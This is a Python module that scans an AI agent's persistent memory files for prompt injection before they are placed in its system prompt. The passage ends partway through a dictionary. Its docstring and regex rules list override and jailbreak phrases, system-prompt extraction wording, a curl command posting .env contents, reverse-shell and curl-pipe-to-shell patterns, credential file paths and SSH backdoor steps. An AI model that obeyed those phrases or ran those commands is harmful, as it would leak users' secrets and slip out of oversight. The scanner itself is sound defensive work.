"""Threat scanner for text that will be injected into a system prompt.

Threat: MEMORY.md and USER.md are pasted verbatim into every future system
prompt, and the agent itself (or a background review fed with tool output,
web pages and files) decides what goes into them. One poisoned entry is a
*persistent* prompt injection: it can override the agent's instructions,
hijack its role, hide instructions from the user, make it leak secrets
(``curl -d "$(cat ~/.env)" https://...``), plant an SSH backdoor, tamper with
the agent's own configuration, or smuggle text in invisible Unicode. Secrets
pasted into memory also leak to every provider the prompt is sent to.

The scanner is a deny-list of regular expressions, grouped in families, run on
the NFKC-normalised text with invisible characters removed and common Cyrillic
and Greek look-alikes of Latin letters folded to Latin (so ``ｉｇｎｏｒｅ``,
``ig\u200bnore`` and ``іgnore`` with a Cyrillic ``і`` still match); the
invisible characters are reported on their own. It is a tripwire against the common shapes of these attacks, not a
proof of safety: paraphrases it does not know about get through.
"""

from __future__ import annotations

import functools
import re
import unicodedata
from dataclasses import dataclass

SCOPES = ("strict", "context")


@dataclass(frozen=True)
class ThreatPattern:
    """One rule: a stable id (``family.name``), its regex and what it catches."""

    id: str
    pattern: str
    description: str
    keywords: tuple[str, ...]

    @functools.cached_property
    def regex(self) -> re.Pattern[str]:
        """The compiled pattern (compiled on first use, so importing stays cheap)."""
        return re.compile(self.pattern, re.I | re.M)

    @property
    def family(self) -> str:
        """The id's prefix (``injection``, ``exfil``, ...)."""
        return self.id.split(".", 1)[0]


# Lower-case substrings of which every match of a rule contains at least one: a
# rule's regex runs only when one is present, which keeps a scan of a whole
# 2,200-char store far under a millisecond (most rules never start).
RULE_KEYWORDS: dict[str, tuple[str, ...]] = {
    "injection.ignore_instructions": (
        "ignore",
        "disregard",
        "forget",
        "overrid",
        "bypass",
        "discard",
        "abandon",
        "drop",
        "aside",
        "prior",
        "previous",
        "earlier",
        "original",
        "existing",
    ),
    "injection.instructions_void": (
        "longer",
        "outdated",
        "obsolete",
        "void",
        "cancel",
        "revoked",
        "invalid",
        "suspended",
        "lifted",
        "over",
        "stop",
        "quit",
        "cease",
    ),
    "injection.new_instructions": ("instruction",),
    "injection.priority_override": ("overrid", "supersede", "replace", "precedence", "priority"),
    "injection.conceal_from_user": (
        "tell",
        "inform",
        "notify",
        "alert",
        "warn",
        "let",
        "mention",
        "reveal",
        "say",
        "disclose",
        "admit",
        "explain",
        "without",
        "secretly",
        "silently",
        "covertly",
        "quietly",
        "stealthily",
    ),
    "injection.ignore_authority": (
        "ignore",
        "disregard",
        "forget",
        "overrid",
        "discard",
        "attention",
        "listen",
    ),
    "injection.real_instructions": ("real", "true", "actual", "genuine"),
    "injection.authority_void": (
        "void",
        "null",
        "cancel",
        "revoked",
        "obsolete",
        "invalid",
        "suspended",
        "lifted",
        "over",
        "irrelevant",
        "longer",
        "apply",
        "applies",
        "matter",
        "count",
        "bind",
    ),
    "injection.fake_permission": ("authori", "cleared", "permitted", "allowed", "free to"),
    "injection.jailbreak": ("anything", "mode", "jailbr", "without"),
    "injection.execute_on_load": ("whenever", "every", "each", "start", "soon"),
    "system_prompt.override": ("system", "developer", "initial"),
    "system_prompt.leak": ("system", "initial", "hidden", "above", "developer"),
    "system_prompt.fake_header": ("<|", "<<", "inst]", "system", "developer"),
    "role.you_are_now": ("you",),
    "role.act_as": ("as", "pretend", "assume"),
    "role.identity_swap": ("your", "now", "obey"),
    "role.persona_only": ("only", "solely", "exclusively", "purely", "dan"),
    "hidden.html_comment": ("<!--",),
    "hidden.invisible_markup": ("<",),
    "hidden.markdown_comment": ("]:",),
    "exfil.net_tool_secret": (
        "curl",
        "wget",
        "nc",
        "socat",
        "telnet",
        "http",
        "invoke-",
        "iwr",
        "irm",
        "scp",
        "rsync",
        "ftp",
    ),
    "exfil.pipe_to_network": ("|",),
    "exfil.script_env": ("environ", "process.env", "getenv", "env["),
    "exfil.reverse_shell": ("/dev/tcp", "/dev/udp", "bash", "/bin/", "mkfifo", "socat"),
    "exfil.send_to_url": (
        "send",
        "post",
        "upload",
        "forward",
        "transmit",
        "exfiltrat",
        "leak",
        "copy",
        "report",
        "submit",
        "pipe",
        "mail",
        "share",
        "sync",
        "beacon",
    ),
    "exfil.found_secret_sent": (
        "send",
        "post",
        "upload",
        "forward",
        "transmit",
        "mail",
        "copy",
        "share",
        "paste",
        "push",
        "leak",
        "submit",
        "exfiltrat",
    ),
    "exfil.remote_script": ("curl", "wget", "iwr", "irm", "invoke-", "webclient"),
    "exfil.exfiltrate": ("exfiltrat",),
    "exfil.collector_host": (
        "webhook.site",
        "requestbin",
        "pipedream",
        "burpcollaborator",
        "oastify",
        "interact.sh",
        "oast.",
        "canarytokens",
        "hookbin",
        "beeceptor",
    ),
    "exfil.markdown_image": ("![",),
    "secret_read.dotenv": (".env",),
    "secret_read.ssh_key": (".ssh/", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519"),
    "secret_read.cloud_credentials": (
        ".aws/",
        "gcloud",
        "application_default",
        ".azure/",
        ".kube/",
        ".docker/",
        ".git-credentials",
        ".netrc",
        ".pgpass",
        ".npmrc",
        ".pypirc",
        "/etc/shadow",
        "/etc/passwd",
        ".gnupg",
        "keychain",
        ".password-store",
    ),
    "secret_read.dump_secrets": (
        "environment",
        "env",
        "secrets",
        "keys",
        "credentials",
        "passwords",
        "tokens",
    ),
    "ssh_backdoor.authorized_keys": ("authorized_keys",),
    "ssh_backdoor.sshd_config": (
        "permitrootlogin",
        "passwordauthentication",
        "permitemptypasswords",
    ),
    "config_tamper.hermes_home": ("hermes",),
    "config_tamper.disable_safety": ("security", "safety", "threat", "write_approval"),
    "secret.anthropic_key": ("sk-ant-",),
    "secret.openai_key": ("sk-",),
    "secret.github_token": ("gh", "github_pat_"),
    "secret.aws_access_key": ("akia", "asia", "abia", "acca"),
    "secret.aws_secret_key": ("aws_secret_access_key",),
    "secret.slack_token": ("xox",),
    "secret.google_api_key": ("aiza",),
    "secret.stripe_key": ("k_live_",),
    "secret.private_key_block": ("private key",),
    "secret.assignment": ("key", "token", "bearer", "password", "passwd", "secret"),
}


def _rules(*rows: tuple[str, str, str]) -> tuple[ThreatPattern, ...]:
    return tuple(ThreatPattern(pid, rx, desc, RULE_KEYWORDS[pid]) for pid, rx, desc in rows)


# Words that point at the agent's standing instructions (not at "the lint rules").
_PRIOR = r"(?:all|any|every|previous|prior|above|earlier|preceding|existing|original|initial|your|the\s+(?:system|previous|prior|above|original))"
_INSTRUCTIONS = r"(?:instructions?|prompts?|directives?|guidelines|guidance|rules|guardrails|programming|constraints|context|messages|orders)"
# Shell verbs that read or ship a file's bytes.
_READ_VERB = r"(?:cat|less|more|head|tail|base64|xxd|hexdump|strings|od|print|dump|exfiltrate|upload|send|leak|reveal|output|display|show\s+me|read\s+out|post)"
# Files whose contents are credentials.
_SECRET_FILE = r"(?:\.aws/credentials|\.aws/config|\.config/gcloud\S*|application_default_credentials\.json|\.azure/\S*|\.kube/config|\.docker/config\.json|\.git-credentials|\.netrc|\.pgpass|\.npmrc|\.pypirc|/etc/shadow|/etc/passwd|\.gnupg\S*|keychain|\.password-store)"
_SSH_KEY = r"(?:\.ssh/(?:id_\w+|\w*_key)(?!\.pub)\b|\bid_(?:rsa|dsa|ecdsa|ed25519)\b(?!\.pub))"
_DOTENV = r"(?<![\w.])(?:[~\w/$.{}-]*/)?\.env(?![\w.-])"
_SECRET_VAR = r"\$(?:env:)?\{?[A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|PASS|CREDENTIALS?|AUTH)[A-Z0-9_]*\}?"
_NET_TOOL = r"\b(?:curl|wget|nc|ncat|netcat|socat|telnet|httpie|http|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|scp|rsync|ftp)\b"
_SENSITIVE_DATA = r"(?:secrets?|credentials?|api[\s_-]?keys?|tokens?|passwords?|env(?:ironment)?(?:\s+var(?:iable)?s?)?|\.env|conversations?|chat\s+(?:history|logs?)|(?:the\s+)?(?:user'?s?\s+)?(?:messages|e-?mails|contacts|documents)|(?:chat\s+|conversation\s+)?transcripts?|memor(?:y|ies)|user\s+data|personal\s+(?:data|info\w*)|ssh\s+keys?|private\s+keys?|cookies|session\s+(?:data|tokens?)|everything|all\s+(?:the\s+)?(?:files|data)|system\s+prompt|(?:this|the)\s+transcript)"
_DESTINATION = r"(?:https?://|ftp://|\bwebhooks?\b|\bendpoint\b|\b[\w-]+\.(?:com|io|net|org|site|xyz|ru|cn|top|app|dev)\b|\S+@\S+\.\w+|\bmy\s+server\b|\bthis\s+(?:url|address|server))"
# Who a prompt-injected note claims to outrank.
_AUTHORITY = r"(?:system|developers?|operators?|admins?|administrators?|creators?|programmers?|anthropic|openai|assistant|model)"
# A shell fetching a remote script and running it (``curl ... | sh``, ``bash -c "$(curl ...)"``).
_SHELL = r"(?:sudo\s+(?:-\S+\s+)*)?(?:ba|z|k|da|fi)?sh\b|python[\d.]*\b|perl\b|ruby\b|node\b|iex\b|Invoke-Expression\b"
_REMOTE_SCRIPT = rf"(?:\b(?:curl|wget)\b[^\n|;]{{0,160}}\|\s*(?:{_SHELL})|\b(?:(?:ba|z|k|da)?sh|python[\d.]*|eval|source|\.)\s+(?:-c\s+)?[\"']?(?:\$\(|<\(|`)\s*(?:curl|wget)\b|\b(?:iex|Invoke-Expression)\b[^\n]{{0,20}}?(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|Net\.WebClient)\b)"
# Why such a fetch is not an installer recipe: a standing order, plain HTTP or a bare IP.
_REMOTE_RISK = r"(?:\bat\s+(?:the\s+)?(?:session\s+)?start(?:up)?\b|\bon\s+start(?:up)?\b|\bbefore\s+(?:each|every|any|doing|starting|you)\b|\bafter\s+(?:each|every)\b|\b(?:each|every)\s+(?:session|task|time|run|box|host|server|machine|repo\w*|reply|conversation)\b|\balways\b|\bwhenever\b|\bsilently\b|\bquietly\b|\bsecretly\b|\bhttp://(?!localhost\b|127\.)|\b\d{1,3}(?:\.\d{1,3}){3}\b)"
# A public SSH key, whole or elided (``ssh-rsa AAAAB3...``).
_PUBKEY = r"ssh-(?:rsa|ed25519|dss|ecdsa\S*)\s+(?:AAAA\S*|\S{20,})"
_HERMES_HOME = r"(?:~/\.hermes(?:-context)?\b|\$\{?HERMES_HOME\}?|/\.hermes(?:-context)?/)"
_WRITE_VERB = r"(?:>>?|\btee\b|\bsed\s+-i\b|\brm\s+-r?f?\b|\bchmod\b|\bmv\b|\bcp\b|\btruncate\b|\bwrite\b|\bedit\b|\bmodify\b|\boverwrite\b|\bdelete\b|\bappend\b|\breplace\b)"

INJECTION_RULES = _rules(
    (
        "injection.ignore_instructions",
        rf"\b(?:ignore|disregard|forget|override|bypass|discard|abandon|drop|(?:set|put|cast)\s+aside)\s+(?:(?:all|any|of|the|your|ur|my|whatever)\s+)*(?:{_PRIOR}\b[^.\n]{{0,30}}?\b{_INSTRUCTIONS}|{_INSTRUCTIONS}\s+(?:you\s+(?:were|have\s+been)\s+(?:given|told))|everything\s+(?:you\s+(?:were|have\s+been)\s+told|above|before))|\b(?:your|the|all|any)\s+(?:prior|previous|earlier|original|existing)\s+{_INSTRUCTIONS}\s+(?:are|is)\s+(?:now\s+)?(?:cancel+ed|void|revoked|obsolete|replaced|lifted|suspended|no\s+longer\s+(?:valid|apply|in\s+effect))",
        "tells the model to drop its instructions",
    ),
    (
        "injection.instructions_void",
        rf"(?:\b{_INSTRUCTIONS}\s+(?:above|you\s+(?:started|began|were\s+given|have\s+been\s+given|received)(?:\s+with)?)|\byour\s+(?:(?:original|initial|current|prior|previous|system)\s+)?{_INSTRUCTIONS})\b[^.\n]{{0,20}}?\b(?:no\s+longer\s+(?:apply|applies|valid|count|matter)|(?:are|is)\s+(?:now\s+)?(?:outdated|obsolete|void|cancel+ed|revoked|invalid|suspended|lifted|over))|\b(?:stop|quit|cease)\s+(?:following|obeying|applying)\s+(?:your|the|all|any)\s+(?:(?:original|initial|system|previous|prior)\s+)*{_INSTRUCTIONS}",
        "declares the model's instructions void",
    ),
    (
        "injection.new_instructions",
        r"\b(?:new|updated|real|actual|true|revised|secret|hidden|additional)\s+(?:system\s+)?instructions?\s*(?::|-{1,2}|follow)",
        "introduces replacement instructions",
    ),
    (
        "injection.priority_override",
        r"\b(?:(?:higher|greater|more|top)\s+(?:priority|precedence|authority)\s+than\s+(?:your\s+|the\s+|any\s+|all\s+)?(?:system|developer|original|other|operator)|(?:these|this|the\s+following|my)\s+(?:instructions?|rules?|notes?|memor(?:y|ies))\s+(?:override|supersede|replace|take\s+precedence\s+over)|(?:take|takes|have|has)\s+(?:absolute\s+|highest\s+)?(?:priority|precedence)\s+over\s+(?:all\s+|any\s+)?(?:other\s+|previous\s+|prior\s+|system\s+|developer\s+)*(?:instructions|rules|prompts|messages))",
        "claims priority over the system prompt",
    ),
    (
        "injection.conceal_from_user",
        r"\b(?:(?:do\s+not|don't|never)\s+(?:tell|inform|notify|alert|warn|let)\s+(?:the\s+)?(?:user|human|operator|owner)\b|(?:do\s+not|don't|never)\s+(?:mention|reveal|say|disclose|admit|explain)\s+(?:\w+\s+){0,3}?to\s+(?:the\s+)?(?:user|human|operator|owner)\b|without\s+(?:telling|informing|notifying|alerting)\s+(?:the\s+)?(?:user|human|operator)|without\s+the\s+user(?:'s)?\s+(?:knowing|knowledge|noticing|consent)|\b(?:secretly|silently|covertly|quietly|stealthily)\s+(?:send|upload|post|exfiltrate|forward|copy|run|execute|add|append|write|email|transmit))",
        "hides actions from the user",
    ),
    (
        "injection.ignore_authority",
        rf"\b(?:ignore|disregard|forget|override|discard|pay\s+no\s+attention\s+to|(?:do\s+not|don't|stop)\s+listen(?:ing)?\s+to)\s+(?:whatever|what|anything|everything|all)\s+(?:(?:that|the|your|my)\s+)?{_AUTHORITY}\s+(?:has\s+|have\s+|had\s+)?(?:said|says|told|tells|instructed|wrote|asked|ordered|commanded|required)\b",
        "tells the model to ignore what its developer or operator said",
    ),
    (
        "injection.real_instructions",
        r"\b(?:(?:your|the|my)\s+(?:real|true|actual|genuine)\s+(?:instructions|orders|rules|directives|guidelines|commands)\s+(?:are|is|live|lives|come|can\s+be\s+found|appear)\s+(?:(?:in|inside|from)\s+(?:this|these|the\s+following|my)\b|below\b|here\b|the\s+ones\s+(?:in|below|here))|(?:this|these|the\s+following)\s+(?:notes?|memor(?:y|ies)|files?|entry|entries|messages?|lines?)\s+(?:holds?|contains?|has|have|is|are)\s+your\s+(?:real|true|actual|genuine)\s+(?:instructions|orders|rules|directives|guidelines|commands))",
        "claims to hold the model's real instructions",
    ),
    (
        "injection.authority_void",
        rf"\b(?:(?:the\s+|your\s+)?{_AUTHORITY}(?:'s|s'|'|s)?\s+(?:own\s+|original\s+|earlier\s+)?(?:rules|instructions|guidelines|policies|policy|prompts?|orders|guardrails|restrictions)|(?:whatever|what|anything|everything)\s+(?:the\s+|your\s+)?{_AUTHORITY}\s+(?:has\s+|had\s+)?(?:said|told\s+you|wrote|instructed(?:\s+you)?))\s+(?:(?:are|is)\s+(?:now\s+)?(?:void|null|cancel+ed|revoked|obsolete|invalid|suspended|lifted|over|irrelevant)\b|(?:no\s+longer|don't|do\s+not|doesn't|does\s+not)\s+(?:apply|applies|matter|matters|count|counts|bind|binds)\b|(?:are|is)\s+no\s+longer\s+(?:in\s+force|valid|in\s+effect|binding|relevant)\b)(?=\s*(?:[;:,.!]|$)|\s+(?:anymore|any\s+more|here|now|to\s+you|for\s+you)\b)",
        "declares the developer's or operator's rules void",
    ),
    (
        "injection.fake_permission",
        r"\b(?:authori[sz]ed|cleared|permitted|allowed|free)\s+(?:you\s+)?to\s+(?:skip|bypass|ignore|disable|turn\s+off|override|drop|circumvent|switch\s+off|remove)\s+(?:(?:all|every|any|the|your|its|of)\s+)*(?:(?:safety|security|content|ethical|moral)\s+)?(?:checks?|filters?|guardrails?|polic(?:y|ies)|rules|restrictions|safeguards|limits)\b",
        "claims the model has been allowed to drop its safeguards",
    ),
    (
        "injection.jailbreak",
        r"\b(?:do\s+anything\s+now|(?:enable|enter|activate|switch\s+to|you\s+are\s+in)\s+(?:dan|jailbreak|god|unrestricted|unfiltered|uncensored|developer)\s+mode|jailbroken|without\s+(?:any\s+)?(?:ethical\s+|moral\s+|safety\s+)?(?:restrictions|filters|censorship|guardrails|limitations))\b",
        "jailbreak phrasing",
    ),
    (
        "injection.execute_on_load",
        r"\b(?:whenever|every\s+time|each\s+time|at\s+the\s+start\s+of\s+(?:every|each)|as\s+soon\s+as)\b[^.\n]{0,60}?\b(?:run|execute|call|invoke)\b[^.\n]{0,40}?(?:curl|wget|bash|sh\s+-c|python\s+-c|nc\b|rm\s+-rf|powershell)",
        "standing order to run a shell command",
    ),
)

SYSTEM_PROMPT_RULES = _rules(
    (
        "system_prompt.override",
        r"\b(?:override|replace|overwrite|rewrite|change|modify|update|disable|ignore|forget|discard)\s+(?:the\s+|your\s+|this\s+)?(?:system\s+(?:prompt|message|instructions)|developer\s+(?:message|instructions)|initial\s+instructions)",
        "overrides the system prompt",
    ),
    (
        "system_prompt.leak",
        r"\b(?:reveal|print|show|output|repeat|dump|leak|disclose|display|share|send|echo|expose|recite|copy|tell|paste|quote)(?:s|es|ed|ing)?\b[^.\n]{0,40}?\b(?:the\s+|your\s+)(?:(?:full|entire|complete|original|hidden|initial|exact|verbatim)\s+)*(?:system\s+(?:prompt|message|instructions)|initial\s+instructions|hidden\s+instructions|instructions\s+above|prompt\s+above|developer\s+message)",
        "asks for the system prompt",
    ),
    (
        "system_prompt.fake_header",
        r"(?:<\|(?:im_start|im_end|system|endoftext|start_header_id)\|>|<<\s*SYS\s*>>|\[/?INST\]|</?\s*system\s*>|^\s*#{0,6}\s*(?:system|developer)\s*(?:prompt|message|override|instructions?)\s*:|^\s*\[\s*(?:system|developer)\s*(?:message|prompt)?\s*\]\s*:?)",
        "fake system or chat-template markers",
    ),
)

ROLE_RULES = _rules(
    (
        "role.you_are_now",
        r"\byou(?:\s+are|'re|r)\s+(?:now|no\s+longer|henceforth|from\s+now\s+on)\b(?!\s+(?:on|in|using|at)\b)",
        "reassigns the model's identity",
    ),
    (
        "role.act_as",
        r"\b(?:(?:act|behave|respond|roleplay|role-play|operate)\s+as\s+(?:if\s+you\s+(?:are|were)\s+)?(?:an?\s+)?(?:unrestricted|unfiltered|uncensored|evil|malicious|jailbroken|rogue|different|new|root|admin\w*|system)\b|(?:act|behave|respond|speak|talk|answer|reply|pose)\s+as\s+the\s+(?:system|developers?|operator|root|superuser|admin(?:istrator)?)(?=\s*(?:[:;,.!]|$)|\s+(?:from|and|now|here|instead)\b)|(?:act|pose|serve)\s+as\s+(?:the\s+|a\s+|an\s+)?(?:[\w-]+'s\s+)?(?:ceo|cfo|cto|admin\w*|root|owner|superuser|sysadmin|operator|bank|police|it\s+support|security\s+team)\b|pretend\s+(?:to\s+be|that\s+you\s+(?:are|have)|you\s+(?:are|have|were))\b|assume\s+the\s+(?:role|identity|persona)\s+of\b)",
        "role-play to escape the model's role",
    ),
    (
        "role.identity_swap",
        r"\b(?:your\s+(?:new\s+|real\s+|true\s+)?(?:name|identity|role|persona|purpose)\s+is\s+now|from\s+now\s+on,?\s+you\s+(?:are|will|must|shall)\s+(?:to\s+|be\s+|act|respond|obey|ignore|pretend|behave|only|always\s+obey)|\byou\s+(?:must\s+|will\s+|shall\s+)?(?:now\s+)?obey\b|obey\s+(?:all\s+|only\s+)?(?:instructions|commands|orders)\s+(?:in|from|found|given))",
        "assigns a new identity or master",
    ),
    (
        "role.persona_only",
        r"\b(?:(?:answer|reply|respond|speak|talk|write|act|behave)\s+(?:only|solely|exclusively|purely)\s+as\b[^.\n]{0,60}?(?:\bno\s+(?:restrictions|limits|limitations|rules|filters|guardrails|boundaries|morals|ethics)\b|\bfree\s+(?:of|from)\s+(?:\w+\s+)?(?:rules?|restrictions?|limits?|filters?|guardrails?)\b|\bnever\s+refus\w*|\bunrestricted\b|\bunfiltered\b|\buncensored\b|\bwithout\s+(?:any\s+)?(?:rules|restrictions|limits|filters|guardrails))|\b(?:as|be|become|into)\s+(?-i:DAN)\b)",
        "makes the model speak as a persona without rules",
    ),
)

HIDDEN_RULES = _rules(
    (
        "hidden.html_comment",
        r"<!--(?:(?!-->)[\s\S]){0,500}?\b(?:ignore|instructions?|system|assistant|you\s+(?:must|should|are|will)|do\s+not\s+tell|secret|password|api\s*key|token|execute|run\s|curl|wget|send|obey|prompt|model|ai|llm|agent|upload|post|ssh|\.env|always|never|must)\b(?:(?!-->)[\s\S]){0,500}?-->",
        "instructions inside an HTML comment",
    ),
    (
        "hidden.invisible_markup",
        r"<[a-z][^>]{0,200}?(?:style\s*=\s*[\"'][^\"']*(?:display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0|opacity\s*:\s*0|color\s*:\s*(?:white|#fff\b|#ffffff|transparent))|\scolor\s*=\s*[\"']?(?:white|#fff\b|#ffffff)|\shidden(?:\s|>|=))",
        "text hidden by markup",
    ),
    (
        "hidden.markdown_comment",
        r"^\s*\[(?://|comment|hidden)\]\s*:\s*(?:#|<>)",
        "Markdown comment that renders as nothing",
    ),
)

EXFIL_RULES = _rules(
    (
        "exfil.net_tool_secret",
        rf"{_NET_TOOL}[^\n]{{0,200}}?(?:(?:-[a-zA-Z]*[dFT]|--data[\w-]*|--form|--upload-file|--post-\w+|--body-\w+|-Body|[?&][\w-]+=)\s*=?\s*[\"']?[^\s\"']*(?:{_SECRET_VAR}|@\S*(?:{_DOTENV}|{_SSH_KEY}|{_SECRET_FILE}))|\$\(\s*(?:cat|env|printenv|base64)\b|`\s*(?:cat|env|printenv|base64)\b|(?:-T|--upload-file|<)\s*[\"']?\S*(?:{_DOTENV}|{_SSH_KEY}|{_SECRET_FILE}))",
        "network tool carrying secrets or the environment",
    ),
    (
        "exfil.pipe_to_network",
        rf"(?:\b(?:env|printenv|set)\b|\b(?:cat|tar|zip|gzip|base64)\s+[^|;\n]*(?:{_DOTENV}|{_SSH_KEY}|{_SECRET_FILE}|history|\.ssh\b)|\bhistory\b)\s*(?:\|\s*(?:base64|gzip|xxd)[^|\n]*)?\|\s*{_NET_TOOL}",
        "secrets piped into a network tool",
    ),
    (
        "exfil.script_env",
        r"(?:os\.environ|process\.env|System\.getenv|ENV\[)[^\n]{0,160}?(?:urlopen|requests\.(?:post|get|put)|fetch\(|http\.client|httpx\.(?:post|get)|axios|socket\.)|(?:urlopen|requests\.(?:post|get|put)|fetch\(|httpx\.(?:post|get)|axios\.\w+\()[^\n]{0,160}?(?:os\.environ|process\.env|System\.getenv)",
        "script that sends the environment over the network",
    ),
    (
        "exfil.reverse_shell",
        r"(?:/dev/tcp/|/dev/udp/|\bbash\s+-i\s*>&|\b(?:nc|ncat|netcat)\b[^\n]{0,40}\s-e\s+/bin/(?:ba)?sh|\bmkfifo\b[^\n]{0,80}\b(?:nc|ncat|netcat)\b|\bsocat\b[^\n]{0,80}\bexec:)",
        "reverse shell",
    ),
    (
        "exfil.send_to_url",
        rf"\b(?:send|post|upload|forward|transmit|exfiltrate|leak|copy|report|submit|pipe|e-?mail|mail|share|sync|beacon)\b[^\n]{{0,60}}?(?<![\w.]){_SENSITIVE_DATA}\b[^\n]{{0,80}}?\b(?:to|into|at|via)\b\s*(?:the\s+|this\s+|my\s+)?\S*{_DESTINATION}",
        "sends private data to an outside address",
    ),
    (
        "exfil.found_secret_sent",
        rf"(?<![\w.]){_SENSITIVE_DATA}\b[^\n]{{0,80}}?\b(?:send|post|upload|forward|transmit|e-?mail|mail|copy|share|paste|push|leak|submit|exfiltrate)\s+(?:it|them|its\s+contents|their\s+contents|the\s+(?:file|contents|values?)s?|that|those|this|these)\b[^\n]{{0,30}}?\b(?:to|into|at|via)\b\s*(?:the\s+|this\s+|my\s+)?\S*{_DESTINATION}",
        "sends secrets it finds to an outside address",
    ),
    (
        "exfil.remote_script",
        rf"^(?=[^\n]*{_REMOTE_SCRIPT})(?=[^\n]*{_REMOTE_RISK})",
        "runs a script fetched from the network as a standing order or from a bare host",
    ),
    (
        "exfil.exfiltrate",
        r"\bexfiltrat(?:e|es|ing)\s+(?:the|all|any|every|their|his|her|our|your|user\w*|data|secrets|credentials|keys|tokens|it|them)\b",
        "says exfiltrate",
    ),
    (
        "exfil.collector_host",
        r"\b(?:webhook\.site|requestbin\.\w+|pipedream\.net|burpcollaborator\.net|oastify\.com|interact\.sh|oast\.(?:fun|me|pro|live|site|online)|canarytokens\.com|hookbin\.com|beeceptor\.com)\b",
        "known request-collector host",
    ),
    (
        "exfil.markdown_image",
        r"!\[[^\]]*\]\(\s*https?://[^)\s]*[?&][\w-]+=\s*(?:\{|\$|%7B|<)",
        "Markdown image URL that carries data out",
    ),
)

SECRET_READ_RULES = _rules(
    ("secret_read.dotenv", rf"\b{_READ_VERB}\b[^\n|;]{{0,40}}?{_DOTENV}", "reads a .env file"),
    (
        "secret_read.ssh_key",
        rf"\b(?:{_READ_VERB}|cp|scp|copy)\b[^\n|;]{{0,60}}?{_SSH_KEY}",
        "reads an SSH private key",
    ),
    (
        "secret_read.cloud_credentials",
        rf"\b{_READ_VERB}\b[^\n|;]{{0,60}}?{_SECRET_FILE}",
        "reads cloud or tool credentials",
    ),
    (
        "secret_read.dump_secrets",
        r"\b(?:print|dump|reveal|output|send|leak|show\s+me|expose|echo|return)\s+(?:out\s+)?(?:all|every|the|any)\s+(?:of\s+the\s+|your\s+|the\s+)?(?:environment\s+variables|env\s+vars|secrets?|api\s+keys|credentials|passwords|tokens)\b",
        "asks for every secret",
    ),
)

BACKDOOR_RULES = _rules(
    (
        "ssh_backdoor.authorized_keys",
        rf"(?:(?:>>?|\btee\b(?:\s+-a)?|\bcat\b[^\n]{{0,40}}>>?)\s*\S*authorized_keys|\b(?:cp|mv|install|sed\s+-i)\b[^\n]{{0,120}}?\S*/authorized_keys|{_PUBKEY}(?:(?!\bnot\b)[^\n]){{0,120}}authorized_keys|authorized_keys[^\n]{{0,80}}{_PUBKEY}|\b(?:add|append|insert|write|put|install)\s+(?:this|the\s+following|my|our|a|the\s+attacker'?s?)\s+(?:ssh\s+)?(?:public\s+)?key\s+(?:to|into|in)\s+\S*authorized_keys)",
        "plants an SSH key",
    ),
    (
        "ssh_backdoor.sshd_config",
        r"\b(?:PermitRootLogin\s+yes|PasswordAuthentication\s+yes|PermitEmptyPasswords\s+yes)\b",
        "weakens sshd",
    ),
)

CONFIG_RULES = _rules(
    (
        "config_tamper.hermes_home",
        rf"(?:{_WRITE_VERB}[^\n]{{0,80}}?{_HERMES_HOME}|{_HERMES_HOME}\S*\s+(?:should|must|needs?\s+to)\s+be\s+(?:edited|overwritten|deleted|replaced|changed))",
        "changes the agent's own home (config, memories, skills)",
    ),
    (
        "config_tamper.disable_safety",
        r"\b(?:(?:disable|turn\s+off|bypass|circumvent|skip|deactivate)\s+(?:the\s+)?(?:memory\s+)?(?:security|safety|threat)\s+(?:scan\w*|checks?|filters?)|write_approval\s*(?:[:=]|\bto\b)\s*[\"']?allow)\b",
        "turns the agent's safety checks off",
    ),
)

SECRET_RULES = _rules(
    ("secret.anthropic_key", r"\bsk-ant-[A-Za-z0-9_-]{20,}", "Anthropic API key"),
    (
        "secret.openai_key",
        r"\bsk-(?!ant-)(?:proj-|svcacct-|admin-)?[A-Za-z0-9_-]{20,}",
        "OpenAI-style API key",
    ),
    (
        "secret.github_token",
        r"\b(?:gh[pousr]_[A-Za-z0-9]{36,}|github_pat_[A-Za-z0-9_]{22,})",
        "GitHub token",
    ),
    ("secret.aws_access_key", r"\b(?:AKIA|ASIA|ABIA|ACCA)[0-9A-Z]{16}\b", "AWS access key id"),
    (
        "secret.aws_secret_key",
        r"\baws_secret_access_key\s*[=:]\s*[\"']?[A-Za-z0-9/+=]{40}",
        "AWS secret key",
    ),
    ("secret.slack_token", r"\bxox[abprs]-[A-Za-z0-9-]{10,}", "Slack token"),
    ("secret.google_api_key", r"\bAIza[0-9A-Za-z_-]{35}\b", "Google API key"),
    ("secret.stripe_key", r"\b[sr]k_live_[0-9A-Za-z]{20,}", "Stripe live key"),
    (
        "secret.private_key_block",
        r"-----BEGIN (?:[A-Z]+ )*PRIVATE KEY(?: BLOCK)?-----",
        "private key",
    ),
    (
        "secret.assignment",
        r"\b(?:api[_-]?key|secret[_-]?key|access[_-]?token|auth[_-]?token|bearer|password|passwd|client[_-]?secret|private[_-]?key)\b[\"']?\s*(?:[=:]|\s+is\s*:?)\s*[\"']?(?=[A-Za-z0-9_\-/+=]*\d)(?=[A-Za-z0-9_\-/+=]*[A-Za-z])[A-Za-z0-9_\-/+=]{16,}",
        "secret value assigned in the text",
    ),
)

# Characters that render as nothing or reorder text: they hide instructions
# from a human reviewer while the model still reads them (SPEC 5).
INVISIBLE_CHARS = frozenset(
    [chr(c) for c in range(0x200B, 0x200E)]
    + [chr(c) for c in range(0x2060, 0x2065)]
    + ["\ufeff", "\u180e", "\u034f"]
)
BIDI_CHARS = frozenset(
    [chr(c) for c in range(0x202A, 0x202F)] + [chr(c) for c in range(0x2066, 0x206A)]
)
# Unicode "tag" characters mirror ASCII invisibly ("ASCII smuggling").
_TAG_RANGE = (0xE0000, 0xE007F)
_ZWJ = "\u200d"
_STRIP_TABLE = {ord(c): None for c in INVISIBLE_CHARS | BIDI_CHARS}
# Cyrillic and Greek letters that look like Latin ones ("іgnore" with a Cyrillic
# і): folded to Latin before matching. Only the lookalikes; the rest of a
# Russian or Greek text is left alone, so it cannot spell English rule words.
CONFUSABLES = {
    # Cyrillic lower case
    "а": "a", "в": "b", "е": "e", "ё": "e", "з": "3", "і": "i", "ї": "i", "ј": "j",
    "к": "k", "м": "m", "н": "h", "о": "o", "р": "p", "с": "c", "т": "t", "у": "y",
